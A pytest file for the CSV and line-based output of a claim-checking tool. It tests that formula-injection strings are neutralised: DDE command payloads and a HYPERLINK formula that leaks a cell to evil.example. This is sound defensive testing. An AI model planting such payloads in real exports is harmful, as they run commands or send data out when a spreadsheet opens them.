"""The columns of a claim: the same in every format."""

import csv
import io
import re
from collections import Counter
from collections.abc import Callable, Sequence
from dataclasses import replace
from functools import cache
from itertools import product
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from claimcheck.check.verify import verify
from claimcheck.load.corpus import load
from claimcheck.load.project import Project
from claimcheck.problem import Place
from claimcheck.render.columns import COLUMNS, HEADER, NOWHERE, SHOWN, claim_document, claims_lines, to_csv
from claimcheck.render.visible import visible
from claimcheck.report.model import CheckedClaim, Report, by_need


def test_every_name_stands_once() -> None:
    """No column of JSON, of CSV or of the screen hides another."""
    names = [column.name for column in COLUMNS]
    titles = [shown.title for shown in SHOWN]
    assert [
        name for given in (names, HEADER, titles) for name, number in Counter(given).items() if number > 1
    ] == []


def test_csv_holds_what_json_holds() -> None:
    """Only how the words were compared, a list of objects for each claim, has no cell."""
    assert [column.name for column in COLUMNS if column.cells is NOWHERE] == ["compared"]


def test_every_text_of_json_is_in_csv(everywhere: Report) -> None:
    """What JSON has of a claim besides its passages and comparisons, CSV has, too."""
    documents = [claim_document(claim, "A sentence.") for claim in everywhere.claims]
    rows = list(csv.DictReader(io.StringIO(to_csv(documents), newline="")))
    for document, row in zip(documents, rows, strict=True):
        texts = {key: value for key, value in document.items() if isinstance(value, str)}
        assert [key for key, value in texts.items() if value not in row[key].replace("'", "")] == []
        assert [int(row[key]) for key in ("line", "articles")] == [
            document[key] for key in ("line", "articles")
        ]


@pytest.mark.parametrize(
    ("name", "value", "cells"),
    [
        ("origins", {"min": 1, "max": 2, "names": ["a", "?b"], "exact": True}, {"origins_min": 1, "origins_max": 2, "origins": ["a", "?b"]}),
        ("verdict", None, dict.fromkeys(("verdict", "verdict_by", "verdict_date", "verdict_note"))),
        ("evidence", [{"source": "t"}, {"source": "s"}, {"source": "t"}], {"passages": 3, "sources": ["t", "s"]}),
        ("contradictions", [{"with": "b", "contradiction": True}, {"with": "c", "contradiction": False}, {"with": "b", "contradiction": True}], {"contradictions": ["b"]}),
        ("contradictions_more", {"number": 2, "value": 3}, {"contradictions_more": 5}),
        ("left_to_read", ["men", "the passage says “he”"], {"left_to_read": "men; the passage says “he”"}),
        ("ignored", {"CC401": "known"}, {"ignored": ["CC401"]}),
    ],
)  # fmt: skip
def test_what_is_no_single_value_has_cells_of_its_own(
    name: str, value: object, cells: dict[str, object]
) -> None:
    """A count has its ends and names, a verdict its parts, passages their number and sources."""
    [column] = (column for column in COLUMNS if column.name == name)
    assert {cell: of(value) for cell, of in (column.cells or {}).items()} == cells


def test_claims_are_a_line_each(report: Report, golden: Callable[[str, str], None]) -> None:
    """A pipe gets one line a claim, its fields parted by tabs."""
    golden("list-piped.txt", claims_lines(by_need(report)))


@pytest.mark.parametrize("text", ["two\nlines", "a\tb", "\x1b[31mred", "[sic] :smile:", "\r", "\u2028"])
def test_no_text_adds_a_line_or_a_field(text: str, report: Report) -> None:
    """Line breaks and tabs in a claim stay inside its last field."""
    claim = report.claim("start-in-may")
    written = claims_lines([claim._replace(claim=replace(claim.claim, text=text))])
    assert (written.splitlines() == [written[:-1]], written.count("\t")) == (True, 6)


PROJECT = Path(__file__).resolve().parent.parent / "golden" / "project"

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1-202-555-0100",
    "-5 %",
    "-2+3+cmd|' /C notepad'!A1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=1+1",
)


@cache
def _verified() -> Report:
    return verify(load(Project(PROJECT / "claims", PROJECT / "seeds", "claims")))


@pytest.fixture
def report() -> Report:
    """The small fixed project, verified."""
    return _verified()


def _csv(claims: Sequence[CheckedClaim]) -> str:
    return to_csv(claim_document(claim, "A sentence.") for claim in claims)


def _with_text(claim: CheckedClaim, text: str) -> CheckedClaim:
    return claim._replace(claim=replace(claim.claim, text=text))


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _restored(cell: str) -> str:
    """Return the text of a cell: a `'` where a cell could begin is none of its own before a formula or a `'`."""
    return re.sub(r"(^|[;,|\u060C\u061B][\s\"]*)'(?=[=+\-@'\uFF1D\uFF0B\uFF0D\uFF20])", r"\1", cell)


def _cells(row: str, separator: str) -> list[str]:
    """Return what a spreadsheet makes of a row with another separator, with and without its quotation marks."""
    cells = [*row.split(separator), *next(csv.reader([row], delimiter=separator))]
    return [text for cell in cells for text in (cell, cell.strip('"'), cell.strip(' "'))]


def test_header_stands_first_and_lines_end_as_in_rfc_4180() -> None:
    """Without claims there is the header alone, ended by CR LF."""
    assert to_csv([]) == ",".join(HEADER) + "\r\n"


def test_a_claim_is_a_row_with_every_axis(report: Report) -> None:
    """A row holds the claim, its axes, its counts, the person's verdict and its place."""
    assert _rows(_csv([report.claim("cost-as-told")])) == [
        {
            "id": "cost-as-told",
            "text": "The harbour bridge costs 90 million euros",
            "tags": "money bridge",
            "anchor": "found",
            "corroboration": "uncorroborated",
            "origins_min": "0",
            "origins_max": "0",
            "articles": "0",
            "denials_min": "0",
            "denials_max": "0",
            "consistency": "consistent",
            "fit": "overreaches",
            "verdict": "misleading",
            "file": "claims/bridge.yaml",
            "line": "63",
            "fit_by_tool": "overreaches",
            "reading_by": "",
            "reading_date": "",
            "reading_stale": "",
            "fingerprint": report.claim("cost-as-told").fingerprint,
            "status": "",
            "to": "",
            "due": "",
            "sentence": "A sentence.",
            "language": "",
            "about": "bridge.cost",
            "quantity": "90 million euros",
            "quantity_bound": "exact",
            "quantity_min": "90000000.0",
            "quantity_max": "90000000.0",
            "quantity_unit": "euros",
            "value": "",
            "as_of": "2024-03",
            "modality": "asserted",
            "fit_reason": "the claim is asserted, its quotation is only planned („will“); says 90 million euros, "
            "the source says “up to” 90 million (“up to 90 million euros”)",
            "verdict_by": "M. Keller",
            "verdict_date": "2024-04-02",
            "verdict_note": "an upper limit was told as the price",
            "reading": "",
            "reading_why": "",
            "left_to_read": "the passage says only „will“ (planned)",
            "origins": "",
            "channels_min": "0",
            "channels_max": "0",
            "channels": "",
            "parties_min": "0",
            "parties_max": "0",
            "parties": "",
            "denials": "",
            "rests_on": "",
            "why": "No supporting passage counts: the passage is planned, the claim asserted.",
            "passages": "1",
            "sources": "herald",
            "contradictions": "",
            "contradictions_more": "0",
            "ignored": "",
        }
    ]


def test_rows_are_in_the_order_given(report: Report) -> None:
    """The rows keep the order of the claims."""
    chosen = [report.claim("start-in-may"), report.claim("cost-limit")]
    assert [row["id"] for row in _rows(_csv(chosen))] == ["start-in-may", "cost-limit"]


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize(
    ("column", "with_formula"),
    [
        ("text", _with_text),
        ("tags", lambda claim, text: claim._replace(claim=replace(claim.claim, tags=(text,)))),
        (
            "verdict",
            lambda claim, text: claim._replace(
                claim=replace(claim.claim, verdict=replace(claim.claim.verdict, rating=text))
            ),
        ),
    ],
)
def test_a_formula_is_inert_and_restored(
    formula: str, column: str, with_formula: Callable[[CheckedClaim, str], CheckedClaim], report: Report
) -> None:
    """What a spreadsheet would take for a formula has a `'` before it, and is whole without it."""
    cell = _rows(_csv([with_formula(report.claim("cost-as-told"), formula)]))[0][column]
    assert (cell[0], _restored(cell)) == ("'", formula)


def test_a_formula_in_a_file_name_is_inert(report: Report) -> None:
    """A folder of claims that is named like a formula is inert, too."""
    claim = report.claim("cost-as-told")
    moved = claim._replace(claim=replace(claim.claim, place=Place("=1+1/a.yaml")))
    assert _rows(_csv([moved]))[0]["file"] == "'=1+1/a.yaml"


BEFORE = ("a{}", 'a "b{}"', 'a{}"', 'a, b"{}', "a{} ", 'a{}" "', "{}", 'a,"{}', "a\n{}", "{0}{0}")


@pytest.mark.each(
    ("formula", "before", "separator"),
    product([*FORMULAS, "\uff1d1+1", "\uff201"], BEFORE, ";\t|,\u061b\u060c"),
)
def test_a_formula_is_inert_whatever_parts_the_cells(
    formula: str, before: str, separator: str, report: Report
) -> None:
    """A reader's locale may part cells at another character: no cell begins like a formula then, and all is restored."""
    text = before.format(separator) + formula
    written = _csv([_with_text(report.claim("cost-as-told"), text)])
    row = written.removesuffix("\r\n").split("\r\n")[1]
    live = ("=", "+", "-", "@", "\uff1d", "\uff20")
    assert [cell for cell in _cells(row, separator) if cell.startswith(live)] == []
    assert _restored(_rows(written)[0]["text"]) == visible(text)


@pytest.mark.parametrize(
    "text",
    [
        "a,b",
        "a; b",
        "x;y=1",
        "U.S.-led, well-known; 5-3",
        "a|b",
        'say "x"',
        "ü 东 👍",
        " =1",
        "it's",
        "5 - 3",
    ],
)
def test_other_texts_stay_as_they_are(text: str, report: Report) -> None:
    """A text that is no formula is written as it is, quoted where CSV asks for it."""
    assert _rows(_csv([_with_text(report.claim("cost-as-told"), text)]))[0]["text"] == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("two\nlines", "two⏎lines"),
        ("\t=1+1", "⇥=1+1"),
        ("\r=1+1", "␍=1+1"),
        ("\x1b[31m\u202e", "␛[31m<U+202E>"),
    ],
)
def test_what_would_act_is_shown(text: str, shown: str, report: Report) -> None:
    """Characters that would act on a terminal, or begin a formula unseen, are shown instead."""
    assert _rows(_csv([_with_text(report.claim("cost-as-told"), text)]))[0]["text"] == shown


def test_a_text_that_begins_with_an_apostrophe_is_restored(report: Report) -> None:
    """A text that already begins with `'` and a formula is told apart from the formula."""
    cell = _rows(_csv([_with_text(report.claim("cost-as-told"), "'=x")]))[0]["text"]
    assert _restored(cell) == "'=x"


@given(st.text(st.characters(exclude_categories=["Cs"])))
def test_any_text_is_restored(text: str) -> None:
    """Whatever the text, a reader of CSV gets it back as it is shown, and no cell begins like a formula."""
    cell = _rows(_csv([_with_text(_verified().claim("cost-as-told"), text)]))[0]["text"]
    assert (_restored(cell), cell.startswith(("=", "+", "-", "@", "\t", "\r"))) == (visible(text), False)
